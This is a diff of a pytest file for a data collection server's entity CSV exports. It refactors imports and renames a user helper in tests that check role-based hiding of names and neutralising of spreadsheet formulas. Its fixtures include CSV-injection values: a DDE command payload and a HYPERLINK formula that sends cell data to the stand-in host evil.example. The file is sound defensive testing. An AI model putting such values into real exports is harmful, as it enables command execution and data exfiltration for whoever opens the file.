@@ -15,11 +15,14 @@ from uuid import uuid4
 
 import pytest
 
-from tests.server.conftest import OPENROSA, make_device
-from tests.server.test_entities import FORMS, XLSX
-from tests.server.test_protection import SENSITIVE, _user
+from tests.security.inert import FORMULA
+from tests.support.accounts import project_user
+from tests.support.devices import make_device
+from tests.support.entities import SENSITIVE
+from tests.support.forms import XLSX
+from tests.support.openrosa import OPENROSA
+from tests.support.paths import FORMS
 
-FORMULA = re.compile(r"^([=@\t\r]|[+-](?![0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$))")
 LABEL = '=HYPERLINK("http://evil.example/"&A1)\r\nAwa Traoré'
 HOSTILE = {
     "first_name": "=cmd|' /C calc'!A0",
@@ -104,7 +107,7 @@ def test_devices_and_data_collectors_get_collects_copy_byte_for_byte(
     device, ids, properties = returnees
     expected = collect_copy(ids, properties)
     form = "forms/reintegration_followup"
-    collector = _user(client, admin, project, "collector@example.org", "data_collector")
+    collector = project_user(client, admin, project, "collector@example.org", "data_collector")
     for base, headers in (
         (device.base, {}),  # an app user over its key URL, as Collect
         (f"/v1/projects/{project}", collector),
@@ -127,7 +130,7 @@ def test_analysts_and_viewers_get_neither_names_nor_formulas(
     client, admin, project, returnees, role
 ):
     _device, ids, properties = returnees
-    person = _user(client, admin, project, f"{role}@example.org", role)
+    person = project_user(client, admin, project, f"{role}@example.org", role)
     lists = f"/v1/projects/{project}/datasets/returnees/entities.csv"
     attachment = f"/v1/projects/{project}/forms/reintegration_followup/attachments/returnees.csv"
     listed = manifest_hash(
@@ -162,7 +165,7 @@ def test_analysts_and_viewers_get_neither_names_nor_formulas(
 
 def test_protection_officers_get_every_property_neutralised(client, admin, project, returnees):
     _device, ids, properties = returnees
-    officer = _user(client, admin, project, "officer@example.org", "protection_officer")
+    officer = project_user(client, admin, project, "officer@example.org", "protection_officer")
     for url in (
         f"/v1/projects/{project}/datasets/returnees/entities.csv",
         f"/v1/projects/{project}/forms/reintegration_followup/attachments/returnees.csv",
